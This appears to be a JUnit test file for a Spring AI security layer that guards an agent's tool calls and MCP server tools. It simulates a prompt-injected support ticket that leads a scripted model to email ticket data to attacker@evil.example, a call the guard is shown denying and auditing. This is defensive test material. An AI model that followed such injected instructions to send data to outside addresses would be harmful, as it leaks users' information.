package io.ape.springai;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.ape.api.ApeConfigurationException;
import io.ape.api.EscalationResolution;
import io.ape.api.Provenance;
import io.ape.engine.AgentSession;
import io.ape.engine.ApeEngine;
import io.ape.engine.SessionOptions;
import io.ape.mcpsdk.ServerSessionMapping;
import io.ape.spi.EscalationResolver;
import io.ape.springai.autoconfigure.ApeSpringAiAutoConfiguration;
import io.ape.springai.internal.GuardedToolCallbackProvider;
import io.modelcontextprotocol.common.McpTransportContext;
import io.modelcontextprotocol.server.McpAsyncServerExchange;
import io.modelcontextprotocol.server.McpServerFeatures.SyncToolSpecification;
import io.modelcontextprotocol.server.McpSyncServerExchange;
import io.modelcontextprotocol.spec.McpSchema.CallToolRequest;
import io.modelcontextprotocol.spec.McpSchema.CallToolResult;
import io.modelcontextprotocol.spec.McpSchema.TextContent;
import io.modelcontextprotocol.spec.McpSchema.Tool;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.ai.chat.client.ChatClient;
import org.springframework.ai.mcp.server.common.autoconfigure.ToolCallbackConverterAutoConfiguration;
import org.springframework.ai.mcp.server.common.autoconfigure.properties.McpServerProperties;
import org.springframework.ai.support.ToolCallbacks;
import org.springframework.ai.tool.ToolCallback;
import org.springframework.ai.tool.ToolCallbackProvider;
import org.springframework.ai.tool.method.MethodToolCallbackProvider;
import org.springframework.boot.autoconfigure.AutoConfigurations;
import org.springframework.boot.context.properties.EnableConfigurationProperties;
import org.springframework.boot.test.context.runner.ApplicationContextRunner;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Configuration;
import org.springframework.core.env.MapPropertySource;
import org.springframework.core.env.StandardEnvironment;
import org.springframework.core.env.SystemEnvironmentPropertySource;

/**
 * The Spring Boot auto-configuration in a real application context: the engine built from
 * {@code ape.*} properties (policy file, JSON-lines audit sink) and the application's resolver
 * bean, every tool bean guarded, a ChatClient with the scripted model end to end, and the MCP
 * server's tool specifications guarded.
 */
class ApeSpringAiAutoConfigurationTest {
  static final String SEND_TO_ATTACKER = SpringAiAgentTest.SEND_TO_ATTACKER;

  @TempDir
  Path dir;

  ApplicationContextRunner runner() {
    return new ApplicationContextRunner()
        .withConfiguration(AutoConfigurations.of(ApeSpringAiAutoConfiguration.class))
        .withPropertyValues("ape.policy.file=" + Engines.supportPolicy(), "ape.tenant=acme",
            "ape.audit.sinks=jsonl", "ape.audit.jsonl.path=" + dir.resolve("audit.jsonl"));
  }

  static ToolCallback named(TicketTools tools, String name) {
    for (ToolCallback c : ToolCallbacks.from(tools)) {
      if (c.getToolDefinition().name().equals(name)) {
        return c;
      }
    }
    throw new IllegalArgumentException(name);
  }

  /** An application: tool beans and an escalation resolver that approves; no engine bean. */
  @Configuration(proxyBeanMethods = false)
  static class App {
    final TicketTools tools = new TicketTools(TicketTools.INJECTED);

    @Bean
    TicketTools ticketToolsObject() {
      return tools;
    }

    @Bean
    ToolCallback sendEmail() {
      return named(tools, "sendEmail");
    }

    @Bean
    ToolCallbackProvider ticketTools() {
      return MethodToolCallbackProvider.builder().toolObjects(tools).build();
    }

    @Bean
    EscalationResolver approver() {
      return request -> EscalationResolution.approve(request, "lead", Provenance.USER_TRUSTED);
    }
  }

  @Test
  void theEngineComesFromApeProperties() {
    runner().withUserConfiguration(App.class).run(context -> {
      assertThat(context).hasNotFailed();
      ApeEngine engine = context.getBean(ApeEngine.class);
      assertThat(engine.tenant()).isEqualTo("acme");
      assertThat(engine.configuration()).containsEntry("ape.audit.sinks", "jsonl")
          .doesNotContainKey("ape.spring-ai.enabled");
    });
  }

  @Test
  void everyToolCallbackAndProviderBeanIsGuarded() {
    runner().withUserConfiguration(App.class).run(context -> {
      assertThat(context.getBean("sendEmail").toString()).isEqualTo("ApeGuarded[sendEmail]");
      ToolCallbackProvider provider = context.getBean(ToolCallbackProvider.class);
      assertThat(provider).isInstanceOf(GuardedToolCallbackProvider.class);
      assertThat(provider.getToolCallbacks()).extracting(Object::toString)
          .contains("ApeGuarded[getTicket]", "ApeGuarded[sendEmail]");
      assertThat(context).hasSingleBean(ApeUserMessageAdvisor.class);
      assertThat(context.getBean(ApeEngine.class).toolIds()).contains("getTicket", "sendEmail");
    });
  }

  @Test
  void aChatClientUsingTheBeansIsGuardedEndToEndAndTheAuditFileHasTheReason() {
    runner().withUserConfiguration(App.class).run(context -> {
      ApeEngine engine = context.getBean(ApeEngine.class);
      App app = context.getBean(App.class);
      ScriptedChatModel model = new ScriptedChatModel()
          .callTool("getTicket", "{\"id\":\"4711\"}")
          .callTool("sendEmail", SEND_TO_ATTACKER)
          .callTool("refund", "{\"orderId\":\"A-17\"}")
          .answer("done");
      try (AgentSession session = engine.openSession(SessionOptions.forUser("alice"));
          ApeSessionScope scope = ApeSessionScope.open(session)) {
        String answer = ChatClient.create(model).prompt()
            .advisors(context.getBean(ApeUserMessageAdvisor.class))
            .user(SpringAiAgentTest.USER + " Then refund A-17.")
            .toolCallbacks(context.getBean(ToolCallbackProvider.class).getToolCallbacks())
            .toolContext(Map.of("app", "demo"))
            .call().content();
        assertThat(answer).isEqualTo("done");
      }
      assertThat(app.tools.sent).isEmpty();
      assertThat(app.tools.refunded).containsExactly("A-17"); // the resolver bean approved
      assertThat(model.toolResponses().get(1).responseData())
          .isEqualTo(SpringAiAgentTest.DENIED_TEXT);
      // no token or APE internal reached the tool's ToolContext
      assertThat(app.tools.contexts).containsExactly(Map.of("app", "demo"));
      engine.audit().flush();
      assertThat(Files.readString(dir.resolve("audit.jsonl")))
          .contains("send-requires-trusted-recipient", "to=EXTERNAL_UNTRUSTED");
    });
  }

  @Test
  void withoutAPolicyFileOrWithAnUnknownKeyTheApplicationDoesNotStart() {
    new ApplicationContextRunner()
        .withConfiguration(AutoConfigurations.of(ApeSpringAiAutoConfiguration.class))
        .withUserConfiguration(App.class).run(context -> {
          assertThat(context).hasFailed();
          assertThat(context.getStartupFailure()).rootCause()
              .isInstanceOf(ApeConfigurationException.class)
              .hasMessageContaining("ape.policy.file");
        });
    runner().withPropertyValues("ape.escalaton.timeout=5s").withUserConfiguration(App.class)
        .run(context -> {
          assertThat(context).hasFailed();
          assertThat(context.getStartupFailure()).rootCause()
              .isInstanceOf(ApeConfigurationException.class)
              .hasMessageContaining("ape.escalaton.timeout");
        });
  }

  @Test
  void environmentVariablesSetOnlyTheEnginesKnownKeysAndOverrideApplicationProperties() {
    Map<String, Object> variables = Map.of("APE_DEBUG", "1", "APE_REQUIRE_SERVERS", "true",
        "APE_JAVA_OPTS", "-Xmx1g", "APE_ESCALATION_TIMEOUT", "7s", "PATH", "/usr/bin");
    runner().withUserConfiguration(App.class)
        .withInitializer(context -> {
          var sources = context.getEnvironment().getPropertySources();
          sources.replace(StandardEnvironment.SYSTEM_ENVIRONMENT_PROPERTY_SOURCE_NAME,
              new SystemEnvironmentPropertySource(
                  StandardEnvironment.SYSTEM_ENVIRONMENT_PROPERTY_SOURCE_NAME, variables));
          sources.addLast(new MapPropertySource("application.properties",
              Map.of("ape.escalation.timeout", "3s")));
        })
        .run(context -> {
          assertThat(context).hasNotFailed();
          Map<String, String> settings = context.getBean(ApeEngine.class).configuration();
          assertThat(settings).containsEntry("ape.escalation.timeout", "7s")
              .containsEntry("ape.tenant", "acme");
          assertThat(settings.keySet()).noneMatch(key -> key.contains("debug")
              || key.contains("require") || key.contains("java"));
        });
  }

  @Test
  void anApplicationsEngineBeanWins() {
    try (ApeEngine own = Engines.builder().build()) {
      new ApplicationContextRunner()
          .withConfiguration(AutoConfigurations.of(ApeSpringAiAutoConfiguration.class))
          .withBean(ApeEngine.class, () -> own).withUserConfiguration(App.class)
          .run(context -> {
            assertThat(context).hasNotFailed();
            assertThat(context.getBean(ApeEngine.class)).isSameAs(own);
            assertThat(own.toolIds()).contains("sendEmail");
          });
    }
  }

  @Test
  void guardingCanOnlyBeTurnedOffExplicitly() {
    runner().withUserConfiguration(App.class).withPropertyValues("ape.spring-ai.enabled=false")
        .run(context -> {
          assertThat(context).hasNotFailed();
          assertThat(context.getBean("sendEmail").toString()).doesNotContain("ApeGuarded");
          assertThat(context).doesNotHaveBean(ApeEngine.class);
        });
  }

  @Test
  void theRefusalModeIsAProperty() {
    runner().withUserConfiguration(App.class).withPropertyValues("ape.spring-ai.refusal-mode=abort")
        .run(context -> {
          ApeEngine engine = context.getBean(ApeEngine.class);
          ToolCallback send = (ToolCallback) context.getBean("sendEmail");
          try (AgentSession session = engine.openSession(SessionOptions.forUser("alice"));
              ApeSessionScope scope = ApeSessionScope.open(session)) {
            assertThatThrownBy(() -> send.call(SEND_TO_ATTACKER))
                .isInstanceOf(ApeToolRefusedException.class);
          }
        });
  }

  // ------------------------------------------------------------------ the Spring AI MCP server

  /** An MCP server application: a specification bean, a list bean, tool callback beans. */
  @Configuration(proxyBeanMethods = false)
  @EnableConfigurationProperties(McpServerProperties.class)
  static class McpApp extends App {
    final List<String> ran = new CopyOnWriteArrayList<>();

    SyncToolSpecification spec(String name) {
      return new SyncToolSpecification(Tool.builder().name(name).description(name)
          .inputSchema(Map.of("type", "object")).build(), (exchange, request) -> {
            ran.add(name + " " + request.arguments());
            return CallToolResult.builder().addTextContent("ok").build();
          });
    }

    @Bean
    SyncToolSpecification lookupSpec() {
      return spec("lookup");
    }

    @Bean
    List<SyncToolSpecification> moreSpecs() {
      return List.of(spec("lookup2"));
    }

    @Bean
    ApeEngine apeEngine() {
      return Engines.builder().build();
    }

    @Bean
    AgentSession stdioSession(ApeEngine engine) {
      AgentSession s = engine.openSession(SessionOptions.forUser("alice"));
      s.recordUserMessage(SpringAiAgentTest.USER);
      return s;
    }

    @Bean
    ServerSessionMapping sessions(AgentSession stdioSession) {
      return (mcpSessionId, transport, engine) -> "mcp-1".equals(mcpSessionId)
          ? Optional.of(stdioSession) : Optional.empty();
    }
  }

  static McpSyncServerExchange exchange(String mcpSession) {
    return new McpSyncServerExchange(new McpAsyncServerExchange(mcpSession, null, null, null,
        McpTransportContext.EMPTY));
  }

  static String text(CallToolResult r) {
    return ((TextContent) r.content().get(0)).text();
  }

  @Test
  @SuppressWarnings("unchecked")
  void everyToolSpecificationTheMcpServerExposesIsGuarded() {
    new ApplicationContextRunner()
        .withConfiguration(AutoConfigurations.of(ApeSpringAiAutoConfiguration.class,
            ToolCallbackConverterAutoConfiguration.class))
        .withUserConfiguration(McpApp.class).run(context -> {
          assertThat(context).hasNotFailed();
          McpApp app = context.getBean(McpApp.class);
          SyncToolSpecification lookup = context.getBean("lookupSpec",
              SyncToolSpecification.class);
          // guarded: an unknown MCP session is refused, the known one allowed
          CallToolResult refused = lookup.callHandler().apply(exchange("mcp-2"),
              new CallToolRequest("lookup", Map.of("customer", "acme")));
          assertThat(refused.isError()).isTrue();
          assertThat(app.ran).isEmpty();
          assertThat(lookup.callHandler().apply(exchange("mcp-1"),
              new CallToolRequest("lookup", Map.of("customer", "acme"))).isError())
              .isNotEqualTo(Boolean.TRUE);
          assertThat(app.ran).containsExactly("lookup {customer=acme}");
          List<SyncToolSpecification> more = (List<SyncToolSpecification>)
              context.getBean("moreSpecs");
          assertThat(more.get(0).callHandler().apply(exchange("mcp-2"),
              new CallToolRequest("lookup2", Map.of())).isError()).isTrue();

          // the specifications Spring AI converts from the (guarded) ToolCallback beans
          List<SyncToolSpecification> converted = (List<SyncToolSpecification>)
              context.getBean("syncTools");
          SyncToolSpecification send = converted.stream()
              .filter(s -> s.tool().name().equals("sendEmail")).findFirst().orElseThrow();
          converted.stream().filter(s -> s.tool().name().equals("getTicket")).findFirst()
              .orElseThrow().callHandler().apply(exchange("mcp-1"),
                  new CallToolRequest("getTicket", Map.of("id", "4711")));
          CallToolResult attack = send.callHandler().apply(exchange("mcp-1"),
              new CallToolRequest("sendEmail", Map.of("to", "attacker@evil.example",
                  "subject", "Ticket 4711", "body", "The printer on floor 3 is being fixed.")));
          assertThat(attack.isError()).isTrue();
          assertThat(text(attack)).isEqualTo(SpringAiAgentTest.DENIED_TEXT);
          CallToolResult benign = send.callHandler().apply(exchange("mcp-1"),
              new CallToolRequest("sendEmail", Map.of("to", "bob@acme.com",
                  "subject", "Ticket 4711", "body", "The printer on floor 3 is being fixed.")));
          assertThat(benign.isError()).isNotEqualTo(Boolean.TRUE);
          assertThat(app.tools.sent).containsExactly(
              "bob@acme.com|Ticket 4711|The printer on floor 3 is being fixed.");
          CallToolResult noSession = send.callHandler().apply(exchange("mcp-9"),
              new CallToolRequest("sendEmail", Map.of("to", "bob@acme.com",
                  "subject", "Ticket 4711", "body", "The printer on floor 3 is being fixed.")));
          assertThat(noSession.isError()).isTrue();
          assertThat(app.tools.sent).hasSize(1);
        });
  }

  @Test
  void anMcpServerWithToolsButNoSessionMappingDoesNotStart() {
    new ApplicationContextRunner()
        .withConfiguration(AutoConfigurations.of(ApeSpringAiAutoConfiguration.class))
        .withBean(ApeEngine.class, () -> Engines.builder().build())
        .withBean("lookupSpec", SyncToolSpecification.class, () -> new McpApp().spec("lookup"))
        .run(context -> {
          assertThat(context).hasFailed();
          assertThat(context.getStartupFailure()).rootCause()
              .isInstanceOf(ApeConfigurationException.class)
              .hasMessageContaining("ServerSessionMapping");
        });
  }
}
